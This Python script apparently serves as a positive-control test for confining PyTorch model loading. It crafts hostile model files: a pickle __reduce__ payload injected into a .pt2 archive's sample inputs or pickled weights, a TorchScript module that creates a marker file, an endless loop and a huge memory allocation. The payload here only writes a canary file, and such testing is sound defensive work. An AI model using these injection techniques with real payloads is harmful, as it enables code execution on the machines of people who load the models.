"""Makes programs that try to create a marker file, and, as positive control, runs them without any confinement.

python program_attacks.py FOLDER
Writes call.pt (TorchScript), pickled.pt2 and weight.pt2 (torch.export with a pickle in its sample inputs, or as a
weight), quiet.pt (TorchScript that prints, for the pipe), greedy.pt and endless.pt; tells which of the first three
created FOLDER/CANARY when used.
"""

from __future__ import annotations

import io
import json
import logging
import sys
import warnings
import zipfile
from pathlib import Path

import torch

FOLDER = Path(sys.argv[1])
MARKER = FOLDER / "CANARY"
FIXTURES = Path(__file__).parent.parent / "fixtures"


class Canary:
    def __reduce__(self) -> tuple:
        return open, (str(MARKER), "w")


class WritesOnCall(torch.nn.Module):
    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x[:, :2] + torch.from_file(self.path, True, 4).sum() * 0


class Prints(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        print("LMBK", x)
        return x[:, :2]


class Endless(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        while bool(x.sum() < 1e30):
            x = x * 1
        return x[:, :2]


class Greedy(torch.nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x[:, :2] + torch.ones([1 << 34]).sum() * 0


def evil_pt2(name: str) -> Path:
    """A .pt2 whose sample inputs, or one of whose weights (declared as pickled), are the payload."""
    target, buffer = FOLDER / name, io.BytesIO()
    torch.save(Canary(), buffer)
    with zipfile.ZipFile(FIXTURES / "torch_exported.pt2") as old, zipfile.ZipFile(target, "w") as new:
        config = json.loads(old.read("torch_exported/data/weights/model_weights_config.json"))
        entry = config["config"]["0.bias"]
        member = "data/sample_inputs/model.pt"
        if name == "weight.pt2":
            entry |= {"use_pickle": True, "tensor_meta": None}
            member = f"data/weights/{entry['path_name']}"
        for path in old.namelist():
            content = buffer.getvalue() if path.endswith(member) else old.read(path)
            new.writestr(path, json.dumps(config) if path.endswith("model_weights_config.json") else content)
    return target


def fired() -> bool:
    hit = MARKER.exists()
    MARKER.unlink(missing_ok=True)
    return hit


def main() -> None:
    warnings.simplefilter("ignore")
    logging.raiseExceptions = False  # torch's own message about its fallback is badly formatted
    torch.set_num_threads(1)
    for name, module in (("call", WritesOnCall(str(MARKER))), ("quiet", Prints()), ("endless", Endless()), ("greedy", Greedy())):  # fmt: skip
        torch.jit.script(module).save(str(FOLDER / f"{name}.pt"))
    torch.jit.load(str(FOLDER / "call.pt"))(torch.zeros(1, 4))
    print("call.pt", fired())
    for name in ("pickled.pt2", "weight.pt2"):
        try:
            torch.export.load(evil_pt2(name))
        except Exception as error:  # the marker is there by then
            print(type(error).__name__, file=sys.stderr)
        print(name, fired())


if __name__ == "__main__":
    main()
